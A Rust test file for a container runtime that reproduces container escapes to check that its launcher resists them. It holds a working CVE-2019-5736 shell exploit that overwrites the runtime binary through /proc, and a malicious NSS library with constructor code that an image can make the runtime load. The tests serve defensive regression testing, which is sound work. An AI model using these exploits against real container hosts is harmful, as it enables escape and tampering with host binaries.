//! Code of the image that runs as the runtime, or reaches its program file.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use runtime::cgroup::Limits;
use rustix::fs::{CWD, FileType, Mode, mknodat};
use serde_json::{Value, json};

use crate::engine_support::{Lab, block_on, launcher_program, set};
use crate::host::{bare, bare_without_cgroups, example, expect_flaw};

/// A shared library whose constructor is `code`.
fn library(lab: &Lab, name: &str, code: &str) -> PathBuf {
    let source = lab.path("evil.c");
    fs::write(&source, format!("#include <fcntl.h>\n#include <unistd.h>\n__attribute__((constructor)) static void evil(void) {{ {code} }}\n")).unwrap();
    let library = lab.path(name);
    let built = Command::new("timeout").args(["60", "gcc", "-shared", "-fPIC", "-o"]).arg(&library).arg(&source).output().unwrap();
    assert!(built.status.success(), "{}", String::from_utf8_lossy(&built.stderr));
    library
}

/// Takes a descriptor of whatever program but busybox it sees executed, lets that end, and writes.
const ATTACK: &str = r#"
while [ -z "$found" ]; do for p in /proc/[0-9]*; do case $(readlink $p/exe) in
    ""|*busybox) ;;
    *) found=$p; break ;;
esac; done; done 2>/dev/null
exec 9<$found/exe
echo x > /bundle/config.json
until [ -e /go ]; do :; done
n=0
while [ $n -lt 500 ]; do n=$((n + 1)); if echo PWNED >> /proc/self/fd/9; then echo written; exit; fi; done 2>/dev/null
echo not written
"#;

/// A running container that has made a command a link to whoever executes it: the runtime's program, which then has the
/// container's rights and can be looked at. It reads a bundle that is a fifo, so the attack wins every time.
fn self_executing(lab: &Lab) -> Value {
    fs::write(lab.rootfs().join("attack.sh"), ATTACK).unwrap();
    fs::create_dir(lab.rootfs().join("bundle")).unwrap();
    mknodat(CWD, lab.rootfs().join("bundle/config.json"), FileType::Fifo, Mode::from_raw_mode(0o600), 0).unwrap();
    std::os::unix::fs::symlink("/proc/self/exe", lab.rootfs().join("bin/evil")).unwrap();
    set(lab.spec(""), "/process/args", json!(["sh", "/attack.sh"]))
}

const COMMAND: [&str; 5] = ["evil", "run", "/bundle", "/state", "/cgroup"];

/// CVE-2019-5736. A copy of the program, so that only this test executes it.
#[test]
fn our_program_overwritten() {
    let overwritten = |program: &Path| fs::read(program).unwrap().ends_with(b"PWNED\n");
    let lab = Lab::new();
    let program = lab.path("bare");
    fs::copy(example("bare"), &program).unwrap();
    let script = format!(
        "$LAB/bare start $BUNDLE $STATE; $LAB/bare exec $STATE {}; touch $LAB/rootfs/go; while grep -qs [a]ttack.sh /proc/[0-9]*/cmdline; do :; done",
        COMMAND[..4].join(" ")
    );
    let said = bare_without_cgroups(&lab, &self_executing(&lab), &script);
    expect_flaw(said.stdout == "written\n" && overwritten(&program), "engine::program", &said);

    let dir = tempfile::tempdir().unwrap();
    let program = dir.path().join("launcher");
    fs::copy(launcher_program(), &program).unwrap();
    let lab = Lab::with_program(&program, Limits::default(), |launcher| launcher);
    let spec = self_executing(&lab);
    block_on(async {
        let (mut created, pipes) = lab.create(&spec).await.unwrap();
        created.start().await.unwrap();
        let process = set(spec.clone(), "/process/args", json!(COMMAND))["process"].clone();
        let (exec, streams) = lab.exec(&created, &spec, &process).await.unwrap();
        let output = streams.finish(exec.pidfd).await;
        assert!(output.exit.code == 70 && output.stderr.contains("launcher: "), "our program ran in the container: {}", output.stderr);
        fs::write(lab.rootfs().join("go"), "").unwrap();
        assert_eq!("not written\n", pipes.finish(created.pidfd).await.stdout);
    });
    assert!(!overwritten(&program));
}

/// Puts a library and all that the dynamic loader needs for it where that looks.
fn install(lab: &Lab, library: &Path) {
    let listed = Command::new("ldd").arg(library).output().unwrap();
    let listed = String::from_utf8(listed.stdout).unwrap();
    let paths: Vec<&Path> = listed.split_whitespace().filter(|word| word.starts_with('/')).map(Path::new).collect();
    let libc = paths.iter().find(|path| path.file_name().unwrap().to_str().unwrap().starts_with("libc.")).unwrap();
    let place = lab.rootfs().join(libc.parent().unwrap().strip_prefix("/").unwrap());
    fs::create_dir_all(&place).unwrap();
    for path in paths.iter().copied().chain([library]) {
        fs::copy(path, place.join(path.file_name().unwrap())).unwrap();
    }
}

/// Without HOME libcontainer asks the name service in the container's root, and so loads a library of the image's as pid 1.
/// (A static program too, when the image brings the C library it was built with.)
#[test]
fn name_service_modules_of_the_image() {
    let hostile = || {
        let lab = Lab::new();
        let code = r#"int fd = open("/work/loaded", O_CREAT | O_WRONLY, 0600); close(fd);"#;
        let evil = library(&lab, "libnss_evil.so.2", code);
        install(&lab, &evil);
        fs::write(lab.rootfs().join("etc/nsswitch.conf"), "passwd: evil\ngroup: evil\n").unwrap();
        let spec = set(lab.spec("echo $HOME"), "/process/env", json!(["PATH=/bin"]));
        (lab, set(spec, "/process/user", json!({ "uid": 1000, "gid": 1000 })))
    };
    let loaded = |lab: &Lab| lab.rootfs().join("work/loaded").exists();

    let (lab, spec) = hostile();
    fs::set_permissions(lab.rootfs().join("work"), std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
    let said = bare(&lab, &spec);
    expect_flaw(loaded(&lab), "engine::sanitise (process_for_libcontainer)", &said);

    let (lab, spec) = hostile();
    fs::set_permissions(lab.rootfs().join("work"), std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
    assert_eq!("/home/user\n", block_on(lab.output_of(&spec)), "from the image's passwd, read as text");
    assert!(!loaded(&lab));
}
